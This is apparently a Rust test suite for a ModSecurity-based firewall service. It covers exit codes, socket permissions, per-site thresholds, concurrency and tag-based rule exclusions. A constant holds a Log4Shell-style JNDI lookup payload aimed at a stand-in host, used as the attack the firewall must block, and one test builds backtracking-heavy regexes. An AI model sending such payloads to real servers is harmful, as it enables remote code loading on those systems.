//! The judge alone: exit codes, the socket, variables of a site.

use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use bedrail_waf_protocol::{Answer, Client, Request, Side, Verdict};

use crate::stage::{RULES, wait_until};
use crate::{ENGINE, core_rule_set, has_engine};

fn code(arguments: &[&str]) -> (Option<i32>, String, String) {
    let output = Command::new(ENGINE).args(arguments).output().unwrap();
    let text = |it: &[u8]| String::from_utf8_lossy(it).into_owned();
    (output.status.code(), text(&output.stdout), text(&output.stderr))
}

#[test]
fn how_it_ends_says_why() {
    assert_eq!(code(&["--serve"]).0, Some(64));
    assert_eq!(code(&["--check"]).0, Some(64));
    assert_eq!(code(&["--check", "--rules", "x", "--seconds", "many"]).0, Some(64));
    let (help, text, _) = code(&["--help"]);
    assert!(help == Some(0) && text.contains("--rules PATH"), "{text}");
    if !has_engine() {
        let (end, _, said) = code(&["--check", "--rules", "x"]);
        assert!(end == Some(69) && said.contains("libmodsecurity-dev"), "{said}");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = folder.path().join(name);
        std::fs::write(&path, text).unwrap();
        path.display().to_string()
    };
    let good = write("good.conf", RULES);
    let (end, report, said) = code(&["--check", "--rules", &good]);
    assert_eq!(end, Some(0), "{said}");
    assert!(report.contains("\"rules\":") && report.contains("\"plain page\""), "{report}");
    for (name, rules) in [
        ("action.conf", "SecRule ARGS \"@rx x\" \"id:1,phase:2,nosuchaction\"\n"),
        ("text.conf", "this is no rule\n"),
        ("data.conf", "SecRule ARGS \"@pmFromFile none.data\" \"id:1,phase:2,deny\"\n"),
    ] {
        let bad = write(name, rules);
        let (end, _, said) = code(&["--check", "--rules", &bad]);
        assert!(end == Some(65) && said.contains(name), "{name}: {end:?} {said}");
    }
    assert_eq!(code(&["--check", "--rules", "/none"]).0, Some(65));
    assert_eq!(code(&["--serve", "/none/there.sock", "--rules", &good]).0, Some(66));
    let blocks_all = write("all.conf", "SecAction \"id:9,phase:1,deny,status:403\"\n");
    let (_, report, _) = code(&["--check", "--rules", &blocks_all]);
    assert!(report.contains("\"interrupted\":403"), "{report}");
}

/// A rule whose expression tries every split, with the engine's limit lifted: the check ends in time.
#[test]
fn a_check_keeps_to_its_time() {
    if !has_engine() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("slow.conf");
    let mut rules = "SecPcreMatchLimit 2000000000\nSecPcreMatchLimitRecursion 2000000000\n".to_owned();
    for id in 1..=150 {
        // 2^30 ways to take thirty optional letters, none of which ends with the sign.
        rules.push_str(&format!(
            "SecRule ARGS \"@rx ^(?:a?){{30}}a{{30}}[!{id}]\" \"id:{id},phase:2,deny\"\n"
        ));
    }
    std::fs::write(&path, rules).unwrap();
    let start = std::time::Instant::now();
    let output =
        Command::new(ENGINE).args(["--check", "--seconds", "2", "--rules"]).arg(&path).output().unwrap();
    assert!(start.elapsed() < Duration::from_secs(25), "{:?}", start.elapsed());
    assert!(!output.status.success(), "{}", String::from_utf8_lossy(&output.stdout));
}

struct Judge(Child, tempfile::TempDir);

impl Judge {
    fn start(rules: &Path) -> Judge {
        let folder = tempfile::tempdir().unwrap();
        let child = Command::new(ENGINE)
            .arg("--serve")
            .arg(folder.path().join("j.sock"))
            .arg("--until-stdin-ends")
            .arg("--rules")
            .arg(rules)
            .stdin(Stdio::piped())
            .spawn()
            .unwrap();
        let judge = Judge(child, folder);
        wait_until(|| judge.try_client().is_some());
        judge
    }

    fn try_client(&self) -> Option<Client> {
        Client::connect(&self.1.path().join("j.sock"), Duration::from_secs(10)).ok()
    }

    fn client(&self) -> Client {
        self.try_client().unwrap()
    }
}

impl Drop for Judge {
    fn drop(&mut self) {
        self.0.kill().unwrap();
        self.0.wait().unwrap();
    }
}

fn request(target: &str, variables: &[(&str, &str)]) -> Request {
    let side = |port| Side { address: "192.0.2.1".to_owned(), port };
    Request {
        variables: variables.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
        go_on: false,
        answer_follows: false,
        client: side(40_000),
        server: side(80),
        method: b"GET".to_vec(),
        target: target.as_bytes().to_vec(),
        http_version: "1.1".to_owned(),
        headers: [("Host", "pump.example"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")]
            .map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()))
            .to_vec(),
        body: Vec::new(),
    }
}

const ATTACK: &str = "/?q=${jndi:ldap://evil/a}";

fn ids(verdict: &Verdict) -> Vec<u32> {
    verdict.matches.iter().map(|it| it.id).collect()
}

#[test]
fn a_judge_judges_and_ends_with_whoever_started_it() {
    if !has_engine() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("own.conf");
    std::fs::write(&rules, RULES).unwrap();
    let mut judge = Judge::start(&rules);
    let mode = std::fs::metadata(judge.1.path().join("j.sock")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let mut client = judge.client();
    assert!(client.hello().engine.contains("ModSecurity v3"), "{:?}", client.hello());
    let verdict = client.judge(request("/", &[])).unwrap().unwrap();
    assert_eq!((verdict.interruption, ids(&Verdict::default())), (None, Vec::new()));
    let verdict = client.judge(request(ATTACK, &[])).unwrap().unwrap();
    assert_eq!(verdict.interruption.as_ref().map(|it| (it.status, it.phase)), Some((403, 2)));
    assert_eq!(ids(&verdict), [1001]);
    assert!(verdict.matches[0].disruptive);
    assert!(!format!("{verdict:?}").contains("evil"), "the value stays in the judge: {verdict:?}");
    // A site of its own exclusions, on the same compiled rules.
    let quiet = client.judge(request(ATTACK, &[("bedrail_site", "quiet")])).unwrap().unwrap();
    assert_eq!(quiet.interruption, None);
    // The answer, too.
    let mut with_answer = request("/", &[]);
    with_answer.answer_follows = true;
    assert_eq!(client.judge(with_answer.clone()).unwrap().unwrap().interruption, None);
    let answer = Answer {
        status: 200,
        protocol: "HTTP/1.1".to_owned(),
        headers: vec![(b"Content-Type".to_vec(), b"text/html".to_vec())],
        body: b"You have an error: SQL syntax error near".to_vec(),
    };
    let verdict = client.judge_answer(answer).unwrap().unwrap();
    assert_eq!(verdict.interruption.map(|it| it.phase), Some(4));
    client.judge(with_answer).unwrap().unwrap();
    client.abandon().unwrap();
    assert_eq!(client.judge(request("/", &[])).unwrap().unwrap().interruption, None);
    // What is no frame closes that connection and no other.
    let mut odd = std::os::unix::net::UnixStream::connect(judge.1.path().join("j.sock")).unwrap();
    odd.write_all(&[0xff; 64]).unwrap();
    assert_eq!(client.judge(request("/", &[])).unwrap().unwrap().interruption, None);
    let zero = Request { target: b"/\0".to_vec(), ..request("/", &[]) };
    assert!(client.judge(zero).unwrap().is_err(), "a judge says what it cannot represent");
    drop(judge.0.stdin.take());
    wait_until(|| judge.0.try_wait().unwrap().is_some());
}

#[test]
fn many_ask_at_once_and_all_get_the_same_answers() {
    if !has_engine() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let own = folder.path().join("own.conf");
    std::fs::write(&own, RULES).unwrap();
    let judge = Judge::start(&core_rule_set("v4.28.0").unwrap_or(own));
    std::thread::scope(|scope| {
        for thread in 0..8 {
            let mut client = judge.client();
            scope.spawn(move || {
                for number in 0..60 {
                    let attack = (thread + number) % 3 == 0;
                    let target = if attack { ATTACK } else { "/patients?name=garcia" };
                    let verdict = client.judge(request(target, &[])).unwrap().unwrap();
                    assert_eq!(verdict.interruption.is_some(), attack, "{verdict:?}");
                }
            });
        }
    });
}

/// Paranoia level and threshold of a site count with the Core Rule Set as it is.
#[test]
fn a_site_has_its_own_level_and_threshold() {
    let (Some(rules), true) = (core_rule_set("v4.28.0"), has_engine()) else { return };
    let judge = Judge::start(&rules);
    let mut client = judge.client();
    let odd = "/?q=caf%C3%A9%20%E2%80%94%20ok";
    let mut judged =
        |target: &str, variables: &[(&str, &str)]| client.judge(request(target, variables)).unwrap().unwrap();
    assert_eq!(judged(odd, &[]).matches, Vec::new());
    let strict = [("blocking_paranoia_level", "4"), ("detection_paranoia_level", "4")];
    assert!(!judged(odd, &strict).matches.is_empty());
    let attack = judged(ATTACK, &[]);
    assert!(ids(&attack).contains(&944_150) && ids(&attack).contains(&949_110), "{attack:?}");
    assert!(attack.inbound_score >= 5, "{attack:?}");
    let lenient = judged(ATTACK, &[("inbound_anomaly_score_threshold", "10000")]);
    assert_eq!((lenient.interruption, lenient.inbound_score), (None, attack.inbound_score));
}

/// An exclusion by tag, put by the numbers of rules between the phases, leaves out what the tag means and nothing else: not other
/// targets, not other rules, not the chained rule whose tag the library honours, and not the request that comes next.
#[test]
fn an_exclusion_by_tag_means_the_rules_that_carry_it() {
    if !has_engine() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("tags.conf");
    let rules = r#"
SecRule ARGS:leave "@streq yes" "id:10,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=noisy;ARGS:note"
SecRule ARGS:leave "@streq chain" "id:11,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=chained;ARGS:note"
SecRule ARGS:late "@streq yes" "id:12,phase:2,pass,nolog,ctl:ruleRemoveTargetByTag=noisy;RESPONSE_HEADERS:x-word"
SecRule ARGS:note|ARGS:other "@contains bad" "id:20,phase:2,pass,log,msg:'one',tag:'first',tag:'noisy'"
SecRule ARGS "@contains bad" "id:21,phase:2,pass,log,msg:'two',tag:'noisy-not'"
SecRule ARGS "@contains bad" "id:22,phase:2,pass,log,msg:'three',tag:'noisy'"
SecRule REQUEST_METHOD "@streq GET" "id:23,phase:2,pass,log,msg:'four',chain"
    SecRule ARGS:note "@contains bad" "tag:'chained'"
SecRule RESPONSE_HEADERS:x-word "@contains bad" "id:24,phase:3,pass,log,msg:'five',tag:'noisy'"
"#;
    std::fs::write(&path, rules).unwrap();
    let judge = Judge::start(&path);
    let mut client = judge.client();
    let mut fired = |target: &str| {
        let mut asked = request(target, &[]);
        asked.answer_follows = true;
        client.judge(asked).unwrap().unwrap();
        let answer = Answer {
            status: 200,
            protocol: "HTTP/1.1".to_owned(),
            headers: vec![(b"X-Word".to_vec(), b"bad".to_vec())],
            body: Vec::new(),
        };
        ids(&client.judge_answer(answer).unwrap().unwrap())
    };
    let all = [20, 21, 22, 23, 24];
    assert_eq!(fired("/?note=bad"), all);
    for _ in 0..2 {
        // Asked twice: what a tag stands for is remembered.
        assert_eq!(fired("/?note=bad&leave=yes"), [21, 23, 24]);
    }
    assert_eq!(fired("/?note=bad&other=bad&leave=yes"), all);
    assert_eq!(fired("/?note=bad&leave=chain"), [20, 21, 22, 24]);
    assert_eq!(fired("/?note=bad&late=yes"), [20, 21, 22, 23]);
    assert_eq!(fired("/?note=bad"), all, "an exclusion holds for its own request");
}
